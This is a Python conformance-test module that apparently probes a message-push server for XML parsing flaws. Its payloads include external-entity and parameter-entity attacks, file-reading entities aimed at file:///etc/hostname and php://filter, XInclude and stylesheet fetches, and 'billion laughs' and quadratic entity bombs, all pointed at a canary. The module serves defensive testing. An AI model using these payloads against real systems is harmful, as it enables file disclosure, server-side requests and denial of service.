"""C15 to C19: XML that points outside, or grows when it is read. Harmless: what it points to is a canary."""

import re
from collections.abc import Callable, Mapping

from wxkf_cli.simulate.conformance.asker import Asker, Shape, Twist
from wxkf_cli.simulate.conformance.check import Fault
from wxkf_cli.simulate.conformance.judging import answered, is_late, next_one, plain_answer, touched
from wxkf_cli.vocab.terms import Text
from wxkf_cli.wire.escape import quoted
from wxkf_cli.wire.exchange import Exchange
from wxkf_cli.wire.signature import spoiled

_MARK = "WXKFMARK"
_REFERENCE = b"&e;"
_XINCLUDE = "http://www.w3.org/2001/XInclude"
_LEVELS, _TIMES = 9, 10
_LONG, _MANY = 50_000, 1000


def _document(prolog: str, reference: bytes | None = _REFERENCE, encoding: str = "utf-8") -> Shape:
    """A change of the document: a prolog before it, and where the mark stands a reference in the open, if any."""

    def changed(document: bytes) -> bytes:
        text = document.decode()
        if reference is not None:
            in_the_open = rf"\g<1>{reference.decode()}\g<2>"
            text = re.sub(rf"<!\[CDATA\[([^\]]*){_MARK}([^\]]*)\]\]>", in_the_open, text)
        declared = '<?xml version="1.0" encoding="UTF-16"?>' if encoding == "utf-16" else ""
        return f"{declared}{prolog}{text}".encode(encoding)

    return changed


def _values(asker: Asker) -> Mapping[str, str]:
    """The mark where a transfer gives it back, between brackets, and where a user wrote it."""
    return {"FromUserName": f"{asker.sender.openid}({_MARK})", "Content": _MARK}


def _is_reflected(asker: Asker, exchange: Exchange) -> bool:
    """Whether the answer has the canary's word, or anything between the brackets that was not there."""
    body = plain_answer(asker, exchange)
    if asker.canary.word.encode() in body:
        return True
    between = re.search(re.escape(asker.sender.openid.encode()) + rb"\(([^)]*)\)", body)
    return between is not None and between[1] not in (b"", _REFERENCE, b"&amp;e;", _MARK.encode())


async def _asked(asker: Asker, what: Text, twist: Twist, *urls: str) -> list[Fault]:
    exchange = await asker.ask(asker.push(values=_values(asker), twist=twist))
    found = await touched(what, asker, urls, exchange)
    if _is_reflected(asker, exchange):
        shown = quoted(plain_answer(asker, exchange), 120)
        found.append(
            Fault(
                Text(
                    f"{what.en}: what it points to stands in the answer: {shown}",
                    f"{what.zh}：所指向的内容出现在应答中：{shown}",
                ),
                exchange,
            )
        )
    elif not found and is_late(exchange):
        found.append(answered(what, asker, exchange))
    return found


def _entity(address: str) -> str:
    return f'<!DOCTYPE xml [<!ENTITY e SYSTEM "{address}">]>'


async def external_entity(asker: Asker) -> list[Fault]:
    """C15."""
    url = asker.canary.url()
    return await _asked(asker, Text("an external entity", "外部实体"), Twist(plain=_document(_entity(url))), url)


async def local_file(asker: Asker) -> list[Fault]:
    """C16."""
    file = asker.canary.file
    addresses = (
        file.as_uri(),
        "file:///etc/hostname",
        f"php://filter/read=convert.base64-encode/resource={file.as_posix()}",
        f"jar:{file.as_uri()}!/x",
    )
    found = []
    for address in addresses:
        scheme = address.partition(":")[0]
        what = Text(f"an entity that is a {scheme}: address", f"指向 {scheme}: 的实体")
        found += await _asked(asker, what, Twist(plain=_document(_entity(address))))
    return found


async def external_subset(asker: Asker) -> list[Fault]:
    """C17."""
    shapes: dict[Text, tuple[Callable[[str], str], str]] = {
        Text("an external DTD", "外部 DTD"): ('<!DOCTYPE xml SYSTEM "{}">'.format, "utf-8"),
        Text("an external parameter entity", "外部参数实体"): (
            '<!DOCTYPE xml [<!ENTITY % p SYSTEM "{}"> %p;]>'.format,
            "utf-8",
        ),
        Text("an external entity in UTF-16", "UTF-16 编码的外部实体"): (_entity, "utf-16"),
    }
    found = []
    for what, (prolog, encoding) in shapes.items():
        url = asker.canary.url()
        reference = _REFERENCE if encoding == "utf-16" else None
        found += await _asked(asker, what, Twist(plain=_document(prolog(url), reference, encoding)), url)
    url = asker.canary.url()
    what = Text("an external entity in a wrongly signed push", "签名错误的推送中的外部实体")
    found += await _asked(asker, what, Twist(body=_document(_entity(url)), spoil=spoiled), url)
    if asker.is_sealed:
        url = asker.canary.url()
        what = Text("an external entity beside Encrypt", "Encrypt 之外的外部实体")
        found += await _asked(asker, what, Twist(body=_document(_entity(url))), url)
    return found


async def other_inclusions(asker: Asker) -> list[Fault]:
    """C18."""
    url = asker.canary.url()
    include = f'<xi:include xmlns:xi="{_XINCLUDE}" href="{url}" parse="text"/>'.encode()
    found = await _asked(asker, Text("an XInclude", "XInclude"), Twist(plain=_document("", include)), url)
    url = asker.canary.url()
    sheet = f'<?xml-stylesheet type="text/xsl" href="{url}"?>'
    what = Text("an xml-stylesheet", "xml-stylesheet")
    found += await _asked(asker, what, Twist(plain=_document(sheet, None)), url)
    url = asker.canary.url()
    located = (
        '<xml xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:noNamespaceSchemaLocation="{url}" xsi:schemaLocation="urn:wxkf {url}">'
    ).encode()
    what = Text("a schemaLocation", "schemaLocation")
    return found + await _asked(asker, what, Twist(plain=lambda plain: plain.replace(b"<xml>", located, 1)), url)


def _bombs() -> dict[Text, Shape]:
    levels = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{level} "{f"&l{level - 1};" * _TIMES}">' for level in range(1, _LEVELS + 1)
    )
    laughs = f"<!DOCTYPE xml [{levels}]>"
    quadratic = f'<!DOCTYPE xml [<!ENTITY e "{"x" * _LONG}">]>'
    attribute = f"<xml a='&l{_LEVELS};'>".encode()
    return {
        Text("entities that multiply to a thousand million", "成倍展开到十亿份的实体"): _document(
            laughs, f"&l{_LEVELS};".encode()
        ),
        Text("one long entity a thousand times", "引用一千次的长实体"): _document(quadratic, _REFERENCE * _MANY),
        Text("multiplying entities in an attribute", "属性中成倍展开的实体"): lambda plain: _document(laughs, None)(
            plain
        ).replace(b"<xml>", attribute, 1),
    }


async def growing_entities(asker: Asker) -> list[Fault]:
    """C19."""
    found = []
    for what, shape in _bombs().items():
        exchange = await asker.ask(asker.push(values=_values(asker), twist=Twist(plain=shape)))
        if is_late(exchange):
            found.append(answered(what, asker, exchange))
    return found + await next_one(asker)
